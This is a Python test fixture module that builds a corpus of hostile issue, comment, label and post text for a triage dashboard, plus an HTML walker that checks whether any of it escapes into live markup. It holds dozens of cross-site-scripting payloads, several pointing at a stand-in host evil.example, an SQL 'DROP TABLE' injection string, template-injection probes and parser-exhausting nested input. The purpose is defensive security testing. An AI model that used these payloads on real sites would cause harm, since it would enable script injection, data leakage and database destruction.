"""The untrusted text corpus: what an issue, comment, label or post may hold, in GitHub's and X's
shapes, and what the dashboard must show without running any of it.

Every script-bearing entry marks its payload with MARKER ("pwned"): after rendering, MARKER may
appear in text only, never in a tag, an attribute, a script or a URL (tests/security/
test_untrusted_text.py), and in Chromium nothing sets window.__pwned, opens a dialog or asks
another host for anything (tests/browser/test_untrusted_corpus.py).
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

MARKER = "pwned"

SCRIPTS = [
    "<script>window.__pwned = 'script'; alert('pwned')</script>",
    "<SCRIPT SRC=https://evil.example/pwned.js></SCRIPT>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    '<img src="https://evil.example/x.png" onload="window.__pwned=\'onload\'">',
    "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg2'</script></svg>",
    "<body onload=\"window.__pwned='body'\">",
    '<div onmouseover="window.__pwned=\'hover\'" style="position:fixed;inset:0">hover pwned</div>',
    "<details open ontoggle=\"window.__pwned='toggle'\"><summary>x</summary></details>",
    "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.__pwned='object'</script>\"></object>",
    '<embed src="https://evil.example/pwned.swf">',
    "<a href=\"javascript:window.__pwned='link'\">click pwned</a>",
    "<a href=\"JaVaScRiPt:window.__pwned='case'\">case pwned</a>",
    "<a href=\"jav&#x09;ascript:window.__pwned='entity'\">entity pwned</a>",
    "<a href=\" javascript:window.__pwned='space'\">space pwned</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==">data pwned</a>',
    "<a href=\"vbscript:msgbox('pwned')\">vbscript pwned</a>",
    "[markdown link](javascript:window.__pwned='md')",
    "[data link](data:text/html,<script>alert('pwned')</script>)",
    "![image](javascript:window.__pwned='mdimg')",
    "<img src=\"data:image/svg+xml,<svg onload=alert('pwned')>\">",
    '<form action="https://evil.example/pwned"><input name=q><button>go pwned</button></form>',
    "<button formaction=\"javascript:window.__pwned='formaction'\">b pwned</button>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/pwned">',
    '<base href="https://evil.example/pwned/">',
    '<link rel="stylesheet" href="https://evil.example/pwned.css">',
    "<style>@import 'https://evil.example/pwned.css'; p{background:url(//evil.example/p)}</style>",
    "<div style=\"background:url('https://evil.example/pwned.png')\">styled pwned</div>",
    '<div hx-get="/admin/" hx-trigger="load" hx-swap="outerHTML">htmx pwned</div>',
    '<button hx-post="/issues/" hx-trigger="load" hx-vals=\'{"pwned":1}\'>htmx post pwned</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='noscript'>\">",
    "<template><script>window.__pwned='template'</script></template>",
    "```html\n<script>window.__pwned='fenced'</script>\n```",
    "`<img src=x onerror=window.__pwned='code'>`",
    "{{ 7*7 }} {% debug %} ${7*7} <%= 7*7 %> pwned templates",
    "&lt;script&gt;window.__pwned='entities'&lt;/script&gt;",
    "<!-- <script>window.__pwned='comment'</script> -->",
    "<scr<script>ipt>window.__pwned='split'</scr</script>ipt>",
    "\"><script>window.__pwned='attr-break'</script>",
    "'><img src=x onerror=window.__pwned='quote-break'>",
    "</textarea></title></style><script>window.__pwned='close-tags'</script>",
]

# Search strings that mean something to SQL, LIKE or the full-text query parser.
SQLISH = "'; DROP TABLE triage_issue; --"
SEARCHES = {
    "sql": SQLISH,
    "percent": "%",
    "underscore": "_",
    "backslash": "\\",
    "quote": "O'Brien\"s",
    "websearch": '"unterminated -minus OR or',
    "negations": "-" * 40 + "x " + "-!" * 35 + " -" * 40,  # NOTs nested past Postgres's stack
}

CONTROL = "".join(chr(c) for c in range(1, 32)) + "\x7f\u200b\u202e\u2066\ufeff"
NUL = "before\x00after"
LONE_SURROGATE = "bad \ud800 half"  # what invalid UTF-8 becomes once JSON is parsed
DEEP_LISTS = "- " * 5000 + "deep list"
DEEP_QUOTES = "> " * 5000 + "deep quote"
DEEP_NESTED_LINES = "\n".join("  " * i + "- level" for i in range(400))
DEEP_HTML = "<div>" * 5000 + "deep html" + "</div>" * 5000
DEEP_EMPHASIS = "*" * 20000 + "x" + "_" * 20000 + "[" * 10000 + "(" * 10000
HUGE_BODY = (
    "Steps to reproduce on gfx942, with a long log:\n\n" + "x" * 99 + "\n"
) * 20_000  # 2 MB
HUGE_COMMENT = "log line " * 120_000  # about 1 MB


def hostile_texts() -> dict[str, str]:
    """name: text, for titles, bodies, comments and posts."""
    texts = {f"script-{i}": text for i, text in enumerate(SCRIPTS)}
    texts.update(
        {
            "control characters": f"ctl {CONTROL} end",
            "nul": NUL,
            "lone surrogate": LONE_SURROGATE,
            "deep lists": DEEP_LISTS,
            "deep quotes": DEEP_QUOTES,
            "deep nested lines": DEEP_NESTED_LINES,
            "deep html": DEEP_HTML,
            "deep emphasis": DEEP_EMPHASIS,
            "huge body": HUGE_BODY,
            "huge comment": HUGE_COMMENT,
        }
    )
    return texts


# The searchable issues: each holds one string of SEARCHES in its title, with a word of its own,
# so a search for that string has exactly one right answer (on SQLite, substrings).
def searchable_titles() -> dict[str, str]:
    return {
        name: f"search-{name} {text} zebra{index}"
        for index, (name, text) in enumerate(SEARCHES.items())
    }


HOSTILE_LABELS = [
    "<script>alert('pwned')</script>",
    "bug\" onmouseover=\"window.__pwned='label'",
    "'; DROP TABLE triage_label; --",
    "100%_\\",
]


def github_issue(number: int, *, title: str, body: str = "", labels=(), user="mallory") -> dict:
    """An issue in the shape of GitHub's REST API (what the sync and the webhook upsert)."""
    return {
        "id": 7_000_000 + number,
        "node_id": f"I_{number}",
        "number": number,
        "title": title,
        "body": body,
        "state": "open",
        "locked": False,
        "user": {
            "id": 9_000_001,
            "login": user,
            "html_url": "javascript:alert('pwned')",
            "avatar_url": "javascript:alert('pwned')",
        },
        "labels": [
            {"id": 8_000_000 + i, "name": name, "color": "zz;background:url(//evil)"}
            for i, name in enumerate(labels)
        ],
        "assignees": [],
        "comments": 0,
        "html_url": "javascript:window.__pwned='html_url'",
        "created_at": "2026-11-01T10:00:00Z",
        "updated_at": f"2026-11-02T10:{number % 60:02d}:00Z",
        "closed_at": None,
        "author_association": "NONE",
        "milestone": {"title": "<script>alert('pwned')</script>"},
    }


def github_comment(comment_id: int, *, issue_number: int, body: str) -> dict:
    return {
        "id": comment_id,
        "node_id": f"IC_{comment_id}",
        "body": body,
        "user": {"id": 9_000_002, "login": "eve"},
        "html_url": "javascript:window.__pwned='comment_url'",
        "issue_url": f"https://api.github.com/repos/ROCm/ROCm/issues/{issue_number}",
        "created_at": "2026-11-02T11:00:00Z",
        "updated_at": "2026-11-02T11:00:00Z",
        "author_association": "NONE",
    }


def corpus_ingest(*, repository) -> dict:
    """Ingest the corpus through the upserts the sync and the webhook use, and the X post upsert.

    Returns {"issues": {name: number}, "searchable": {search name: number}, "posts": {name: id}}.
    """
    from triage.sources.github import ingest
    from triage.sources.x import sync as x_sync

    texts = hostile_texts()
    issues, searchable, items, comments = {}, {}, [], []
    number = 100
    for name, text in texts.items():
        number += 1
        issues[name] = number
        title = text if len(text) < 2000 else f"{name}: " + text[:200]
        items.append(github_issue(number, title=title, body=text, labels=HOSTILE_LABELS))
        comments.append(github_comment(50_000 + number, issue_number=number, body=text))
    for name, title in searchable_titles().items():
        number += 1
        searchable[name] = number
        items.append(github_issue(number, title=title, body="plain body"))
    for start in range(0, len(items), 20):  # pages, as the sync upserts them
        ingest.issues_upsert(repository=repository, items=items[start : start + 20])
    ingest.comments_upsert(repository=repository, items=comments)
    posts, users = [], {"777": {"username": "mallory", "name": "<b>mallory</b> pwned"}}
    for index, (name, text) in enumerate(texts.items()):
        posts.append(
            {
                "id": str(10_000 + index),
                "text": text[:4000],
                "author_id": "777",
                "created_at": "2026-11-02T12:00:00Z",
                "lang": "en",
                "entities": {"urls": [{"expanded_url": "javascript:alert('pwned')"}]},
            }
        )
    x_sync.posts_upsert(search=None, posts=posts, users=users)
    return {
        "issues": issues,
        "searchable": searchable,
        "posts": {name: 10_000 + i for i, name in enumerate(texts)},
    }


# Attributes where escaped untrusted text is shown as text (or sent back as a relative URL's query).
TEXT_ATTRIBUTES = {"alt", "title", "value", "aria-label", "placeholder", "href", "action"}


class _Walker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.in_script = True
            src = dict(attrs).get("src") or ""
            if src and not src.startswith("/static/"):
                self.problems.append(f"<script src={src!r}>")
        if tag in {"iframe", "object", "embed", "base", "meta", "frame"} and any(
            MARKER in (v or "") for _, v in attrs
        ):
            self.problems.append(f"<{tag}> from the corpus")
        ours = dict(attrs).get("hx-get") or ""
        ours = ours == "/inbox/count/" or ours.startswith("/inbox/rows/?show=")  # our polling
        for name, value in attrs:
            value = value or ""
            if (name in {"hx-get", "hx-vals"} or (name == "hx-trigger" and "load" in value)) and (
                not ours
            ):
                self.problems.append(f"<{tag} {name}={value[:60]!r}>: htmx from the corpus")
            if name == "style":  # the Content-Security-Policy allows no style attribute
                self.problems.append(f"<{tag} style={value[:60]!r}>: a style attribute")
            if tag == "img" and name == "src" and (value[:1] != "/" or value[:2] == "//"):
                self.problems.append(f"<img src={value[:60]!r}>: an image from another host")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value[:60]!r}>")
            if MARKER in value and name not in TEXT_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}={value[:60]!r}>: the marker in an attribute")
            if name in {"href", "src", "action", "formaction", "data", "srcdoc", "poster"}:
                scheme = urlsplit(value.strip().lower()).scheme
                if scheme and scheme not in {"http", "https", "mailto"}:
                    self.problems.append(f"<{tag} {name}={value[:60]!r}>: scheme {scheme}")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and MARKER in data:
            self.problems.append(f"script body from the corpus: {data[:80]!r}")


def html_problems(html: str) -> list[str]:
    """Where untrusted text escaped into markup: script elements or bodies, event handler or style
    attributes, the marker in an attribute, non-http(s) URLs, images from another host (the
    author's host would learn who reads the page). [] when the page is clean."""
    walker = _Walker()
    walker.feed(html)
    walker.close()
    return walker.problems
